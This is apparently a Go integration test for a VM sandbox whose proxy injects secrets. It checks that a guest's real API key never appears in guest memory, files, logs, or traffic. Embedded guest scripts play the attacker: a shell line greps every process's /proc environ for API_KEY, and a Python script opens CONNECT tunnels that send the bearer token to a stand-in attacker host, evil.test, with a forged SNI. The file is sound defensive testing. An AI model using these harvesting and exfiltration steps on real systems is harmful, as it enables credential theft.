package netjail

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"log/slog"
	mrand "math/rand/v2"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/crackbox/crackbox/internal/jailtest"
	"github.com/crackbox/crackbox/internal/nettest"
	"github.com/crackbox/crackbox/internal/testreq"
	"github.com/crackbox/crackbox/pkg/jail"
	"github.com/crackbox/crackbox/pkg/proxy"
	"github.com/crackbox/crackbox/pkg/proxy/allow"
	"github.com/crackbox/crackbox/pkg/proxy/inject"
)

// origins are two HTTPS servers on loopback addresses of their own: api.test,
// the host the secret is bound to, and evil.test, an attacker's server whose
// certificate for api.test comes from the attacker's own CA. Both record
// every request and echo its headers back. /barrier?run=X answers once both
// runs A and B have a request in flight, so the two guests overlap.
type origins struct {
	apiIP, evilIP string
	mu            sync.Mutex
	seen          map[string][]string // "api" or "evil" -> requests
	arrived       map[string]chan struct{}
}

func startOrigins(t *testing.T, api, evil nettest.Cert) *origins {
	t.Helper()
	base := fmt.Sprintf("127.%d.%d.", 100+mrand.IntN(150), 1+mrand.IntN(250))
	o := &origins{apiIP: base + "2", evilIP: base + "3", seen: map[string][]string{},
		arrived: map[string]chan struct{}{"A": make(chan struct{}), "B": make(chan struct{})}}
	for _, srv := range []struct {
		label, ip string
		cert      tls.Certificate
	}{{"api", o.apiIP, api.Leaf}, {"evil", o.evilIP, evil.Leaf}} {
		ln, err := net.Listen("tcp", net.JoinHostPort(srv.ip, "443"))
		if err != nil {
			t.Skipf("origin listen %s:443: %v", srv.ip, err)
		}
		label := srv.label
		hs := &http.Server{
			ReadHeaderTimeout: time.Minute,
			TLSConfig:         &tls.Config{Certificates: []tls.Certificate{srv.cert}},
			Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				var b strings.Builder
				fmt.Fprintf(&b, "%s %s\n", r.Host, r.URL.RequestURI())
				r.Header.Write(&b)
				o.mu.Lock()
				o.seen[label] = append(o.seen[label], b.String())
				o.mu.Unlock()
				if r.URL.Path == "/barrier" {
					o.barrier(r.URL.Query().Get("run"))
				}
				io.WriteString(w, "echo "+b.String())
			}),
		}
		go hs.ServeTLS(ln, "", "")
		t.Cleanup(func() { hs.Close() })
	}
	return o
}

func (o *origins) barrier(run string) {
	o.mu.Lock()
	ch, ok := o.arrived[run]
	if ok {
		delete(o.arrived, run)
		close(ch)
	}
	var wait []chan struct{}
	for _, c := range o.arrived {
		wait = append(wait, c)
	}
	o.mu.Unlock()
	for _, c := range wait {
		select {
		case <-c:
		case <-time.After(3 * time.Minute):
		}
	}
}

func (o *origins) requests(label string) []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return append([]string(nil), o.seen[label]...)
}

func (o *origins) met() bool {
	o.mu.Lock()
	defer o.mu.Unlock()
	return len(o.arrived) == 0
}

// valueForms are a value and the stable middle of its base64 at each byte
// alignment: how it would show in memory or a file if it leaked.
func valueForms(v string) []string {
	out := []string{v}
	for pad := 0; pad < 3; pad++ {
		enc := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("\x00", pad) + v))
		out = append(out, enc[4:len(enc)-4])
	}
	return out
}

// scanFile reports which needles occur in the file, reading it in chunks
// that overlap by the longest needle.
func scanFile(t *testing.T, path string, needles []string) map[string]bool {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	longest := 0
	for _, n := range needles {
		longest = max(longest, len(n))
	}
	found := map[string]bool{}
	buf := make([]byte, 0, 8<<20)
	chunk := make([]byte, 4<<20)
	for {
		n, err := f.Read(chunk)
		buf = append(buf, chunk[:n]...)
		for _, s := range needles {
			if bytes.Contains(buf, []byte(s)) {
				found[s] = true
			}
		}
		if len(buf) > longest {
			buf = append(buf[:0], buf[len(buf)-longest:]...)
		}
		if err == io.EOF {
			return found
		}
		if err != nil {
			t.Fatal(err)
		}
	}
}

// guestRun is one guest of the test and what it left behind.
type guestRun struct {
	name, value string
	set         *inject.Set
	wd          string
	stdout      nettest.Buffer
	stderr      nettest.Buffer
	res         jail.Result
	err         error
}

// secretGuestPy runs in the guest: the bound request (behind the barrier),
// then three tunnels that try to make the proxy inject elsewhere: an unbound
// name with the bound SNI and the guest's own CA, the attacker's address with
// the bound SNI, and the bound host's own address.
const secretGuestPy = `
import os, socket, ssl, sys, urllib.request
ph, run = os.environ["API_KEY"], os.environ["RUN"]
phost, pport = os.environ["HTTPS_PROXY"].rsplit("/", 1)[-1].rsplit(":", 1)
def bound():
    req = urllib.request.Request("https://api.test/barrier?run=" + run, headers={"Authorization": "Bearer " + ph})
    body = urllib.request.urlopen(req, timeout=300).read().decode()
    open("bound-%s.txt" % run, "w").write(body)
    print("CHECK bound", "echoed" if "Bearer " + ph in body else "not-echoed")
def tunnel(name, target, cafile):
    try:
        tunnel1(name, target, cafile)
    except Exception as e:
        print("CHECK", name, type(e).__name__)
def tunnel1(name, target, cafile):
    s = socket.create_connection((phost, int(pport)), timeout=60)
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        c = s.recv(1)
        if not c:
            break
        head += c
    if head.split(b" ")[1:2] != [b"200"]:
        print("CHECK", name, "connect", head[:40])
        return
    ctx = ssl.create_default_context(cafile=cafile) if cafile else ssl._create_unverified_context()
    t = ctx.wrap_socket(s, server_hostname="api.test")
    t.sendall(("GET /%s HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % (name, ph)).encode())
    body = b""
    while True:
        c = t.recv(65536)
        if not c:
            break
        body += c
    open("tunnel-%s.txt" % name, "wb").write(body)
    print("CHECK", name, body.split(b" ")[1].decode())
bound()
if run == "A":
    tunnel("forged_sni", "evil.test:443", "own-ca.pem")
    tunnel("evil_ip", sys.argv[1] + ":443", None)
    tunnel("api_ip", sys.argv[2] + ":443", None)
`

// secretGuestSh records the environments, runs the checks, then (guest A)
// waits on stdin while the host looks at its memory.
const secretGuestSh = `
env > env.txt
echo "ENV $(grep '^API_KEY=' env.txt)"
cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep '^API_KEY=' | sort -u | sed 's/^/ENVIRON /'
python3 t.py "$@" 2>&1
cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep '^API_KEY=' | sort -u > environ.txt
if [ "$RUN" = A ]; then echo READY; read x; fi
echo DONE
`

// TestSecretNeverInGuest boots two guests at once whose secret API_KEY is
// bound to api.test with different values. Guest A's RAM, dumped from the
// host over QMP after its requests ran, holds the placeholder and not the
// value (nor its base64); so do its environments and every file it wrote,
// the run dir, the proxy's logs and decision log. Tunnels to an attacker's
// server (by name with a forged SNI and its own CA, or by address) and to the
// bound host's address carry only the placeholder. Each guest's bound
// request, in flight together, carries its own value.
func TestSecretNeverInGuest(t *testing.T) {
	jailtest.Require(t)
	testreq.Check(t, Available(), "a tap and nftables", "run as root with /dev/net/tun and nft (scripts/deps.sh)")
	if testing.Short() {
		t.Skip("boots two guests")
	}
	apiCert, ownCert := nettest.NewCert(t, "api test CA", "api.test"), nettest.NewCert(t, "the guest's own CA", "api.test")
	o := startOrigins(t, apiCert, ownCert)
	logs := &nettest.Buffer{}
	logger := slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	decisions := filepath.Join(t.TempDir(), "decisions.jsonl")
	dlog, err := os.Create(decisions)
	if err != nil {
		t.Fatal(err)
	}
	defer dlog.Close()
	list, err := allow.Parse([]string{"api.test", "evil.test", o.apiIP, o.evilIP})
	if err != nil {
		t.Fatal(err)
	}
	popts := proxy.Options{
		Hosts: map[string][]netip.Addr{
			"api.test": {netip.MustParseAddr(o.apiIP)}, "evil.test": {netip.MustParseAddr(o.evilIP)},
		},
		AllowCIDRs:    []netip.Prefix{netip.MustParsePrefix(o.apiIP + "/32"), netip.MustParsePrefix(o.evilIP + "/32")},
		UpstreamRoots: apiCert.Pool, DecisionLog: &syncWriter{w: dlog}, Log: logger,
	}

	runs := []*guestRun{
		{name: "A", value: "sk-live-guest-A-" + strings.Repeat("a1", 12)},
		{name: "B", value: "sk-live-guest-B-" + strings.Repeat("b2", 12)},
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()
	// Both slots at once: the two guests must overlap.
	for range runs {
		release, err := jailtest.Acquire(ctx)
		if err != nil {
			t.Fatalf("guest slot: %v", err)
		}
		defer release()
	}
	stdinR, stdinW := io.Pipe()
	defer stdinW.Close()
	live := make(chan *jail.Live, 1)
	var wg sync.WaitGroup
	for _, g := range runs {
		set, err := inject.New([]inject.Secret{{Name: "API_KEY", Hosts: []string{"api.test"}, Value: g.value}})
		if err != nil {
			t.Fatal(err)
		}
		g.set, g.wd = set, t.TempDir()
		os.Chmod(g.wd, 0o777)
		os.WriteFile(filepath.Join(g.wd, "t.py"), []byte(secretGuestPy), 0o644)
		os.WriteFile(filepath.Join(g.wd, "own-ca.pem"), ownCert.CAPEM, 0o644)
		nr, err := Prepare(ctx, Options{Mode: jail.NetTap, Pool: testPool, RunsDir: t.TempDir(), UID: -1, GID: -1,
			Allow: list, Proxy: popts, Secrets: set, Log: logger})
		if err != nil {
			t.Fatal(err)
		}
		defer nr.Close()
		s := jailtest.Spec(t, "sh", "-c", secretGuestSh, "sh", o.evilIP, o.apiIP)
		s.Net, s.Workdir, s.Root, s.MemoryMiB = nr.Net, g.wd, true, 256
		s.Env = append(set.Env(), "RUN="+g.name)
		s.Stdout, s.Stderr = &g.stdout, &g.stderr
		s.Timeout = 8 * time.Minute
		if g.name == "A" {
			s.Stdin = stdinR
			s.Live = func(l *jail.Live) { live <- l }
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			g.res, g.err = jail.Run(ctx, s)
		}()
	}

	a := runs[0]
	l := waitReady(t, ctx, &a.stdout, live)
	if l != nil {
		checkGuestMemory(t, l, a, runs[1])
		checkRunDir(t, l.RunDir(), runs)
	}
	stdinW.Close()
	wg.Wait()

	for _, g := range runs {
		out := g.stdout.String()
		t.Logf("guest %s: exit %d err %v\nstdout:\n%s\nstderr:\n%s", g.name, g.res.Exit, g.err, out, g.stderr.String())
		if g.err != nil || g.res.Exit != 0 || !strings.Contains(out, "DONE") {
			t.Errorf("guest %s did not finish: exit %d err %v", g.name, g.res.Exit, g.err)
		}
		ph := g.set.Placeholder("API_KEY")
		checkEnvironments(t, g, ph)
		want := map[string]string{"bound": "echoed"}
		if g.name == "A" {
			want["forged_sni"], want["evil_ip"], want["api_ip"] = "200", "200", "200"
		}
		got := parseChecks(out)
		for k, v := range want {
			if got[k] != v {
				t.Errorf("guest %s: CHECK %s = %q, want %q", g.name, k, got[k], v)
			}
		}
		noValues(t, "guest "+g.name+" output", out+g.stderr.String(), runs)
		walkNoValues(t, g.wd, runs)
	}
	if !o.met() {
		t.Error("the two guests' bound requests were never in flight together")
	}
	checkOrigins(t, o, runs)
	noValues(t, "the proxy log", logs.String(), runs)
	walkNoValues(t, filepath.Dir(decisions), runs)
}

// waitReady waits for guest A to have run its requests and hands back its
// live handle; nil when it ended first.
func waitReady(t *testing.T, ctx context.Context, out *nettest.Buffer, live chan *jail.Live) *jail.Live {
	t.Helper()
	for !strings.Contains(out.String(), "READY") {
		select {
		case <-ctx.Done():
			t.Error("guest A never got to READY")
			return nil
		case <-time.After(200 * time.Millisecond):
		}
		if strings.Contains(out.String(), "DONE") {
			t.Error("guest A ended before READY")
			return nil
		}
	}
	select {
	case l := <-live:
		return l
	default:
		t.Error("guest A runs but jail handed no live handle")
		return nil
	}
}

// checkGuestMemory dumps guest A's RAM and looks for every form of both
// values and for A's placeholder, which the dump must hold to mean anything.
func checkGuestMemory(t *testing.T, l *jail.Live, a, b *guestRun) {
	t.Helper()
	dump, err := l.DumpMemory(3 * time.Minute)
	if err != nil {
		t.Errorf("dump guest memory: %v", err)
		return
	}
	defer os.Remove(dump)
	if fi, err := os.Stat(dump); err != nil || fi.Size() < 256<<20 {
		t.Errorf("memory dump %v is smaller than the guest's RAM: %v", fi, err)
	}
	ph := a.set.Placeholder("API_KEY")
	needles := append(append([]string{ph}, valueForms(a.value)...), valueForms(b.value)...)
	found := scanFile(t, dump, needles)
	if !found[ph] {
		t.Error("the memory dump does not hold the placeholder: it does not show the guest's memory")
	}
	for _, n := range needles[1:] {
		if found[n] {
			t.Errorf("guest A's RAM holds a value (as %q)", n)
		}
	}
}

// checkRunDir greps every file of the live run dir (console, QEMU log).
func checkRunDir(t *testing.T, dir string, runs []*guestRun) {
	t.Helper()
	n := 0
	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() {
			n++
		}
		return nil
	})
	if n == 0 {
		t.Errorf("run dir %s has no file to check", dir)
	}
	walkNoValues(t, dir, runs)
}

func checkEnvironments(t *testing.T, g *guestRun, ph string) {
	t.Helper()
	out := g.stdout.String()
	if !strings.Contains(out, "ENV API_KEY="+ph+"\n") {
		t.Errorf("guest %s: env does not hold its placeholder %s", g.name, ph)
	}
	for _, line := range strings.Split(out, "\n") {
		if v, ok := strings.CutPrefix(line, "ENVIRON "); ok && v != "API_KEY="+ph {
			t.Errorf("guest %s: a process environment holds %q", g.name, v)
		}
	}
	b, _ := os.ReadFile(filepath.Join(g.wd, "environ.txt"))
	if string(b) != "API_KEY="+ph+"\n" {
		t.Errorf("guest %s: environments after its requests: %q", g.name, b)
	}
	if b, _ := os.ReadFile(filepath.Join(g.wd, "bound-"+g.name+".txt")); !bytes.Contains(b, []byte("Bearer "+ph)) {
		t.Errorf("guest %s: the echoed header is not the placeholder: %q", g.name, b)
	}
}

// checkOrigins: each bound request carried its own run's value; nothing
// else reached any server with a value.
func checkOrigins(t *testing.T, o *origins, runs []*guestRun) {
	t.Helper()
	for _, g := range runs {
		var bound []string
		for _, r := range o.requests("api") {
			if strings.Contains(r, "/barrier?run="+g.name) {
				bound = append(bound, r)
			}
		}
		if len(bound) != 1 || !strings.Contains(bound[0], "Authorization: Bearer "+g.value) {
			t.Errorf("guest %s: bound requests at api.test %q, want one with its own value", g.name, bound)
		}
	}
	phA := runs[0].set.Placeholder("API_KEY")
	evil := strings.Join(o.requests("evil"), "\n")
	for _, path := range []string{"/forged_sni", "/evil_ip"} {
		if !strings.Contains(evil, path+"\n") || !strings.Contains(evil, "Bearer "+phA) {
			t.Errorf("the attacker's server did not get %s with the placeholder:\n%s", path, evil)
		}
	}
	noValues(t, "the attacker's server", evil, runs)
	var apiIP string
	for _, r := range o.requests("api") {
		if strings.Contains(r, "/api_ip") {
			apiIP = r
		}
	}
	if !strings.Contains(apiIP, "Bearer "+phA) {
		t.Errorf("the tunnel to the bound host's address: %q, want the placeholder as sent", apiIP)
	}
	noValues(t, "the tunnel to the bound host's address", apiIP, runs)
}

func noValues(t *testing.T, what, s string, runs []*guestRun) {
	t.Helper()
	for _, g := range runs {
		for _, f := range valueForms(g.value) {
			if strings.Contains(s, f) {
				t.Errorf("%s holds guest %s's value (as %q)", what, g.name, f)
			}
		}
	}
}

func walkNoValues(t *testing.T, root string, runs []*guestRun) {
	t.Helper()
	filepath.Walk(root, func(p string, fi os.FileInfo, err error) error {
		if err != nil || !fi.Mode().IsRegular() {
			return nil
		}
		b, _ := os.ReadFile(p)
		noValues(t, p, string(b), runs)
		return nil
	})
}

func parseChecks(out string) map[string]string {
	m := map[string]string{}
	sc := bufio.NewScanner(strings.NewReader(out))
	for sc.Scan() {
		if rest, ok := strings.CutPrefix(strings.TrimSpace(sc.Text()), "CHECK "); ok {
			name, result, _ := strings.Cut(rest, " ")
			m[name] = strings.TrimSpace(result)
		}
	}
	return m
}

// syncWriter serializes writes from both runs' proxies.
type syncWriter struct {
	mu sync.Mutex
	w  io.Writer
}

func (s *syncWriter) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.w.Write(p)
}
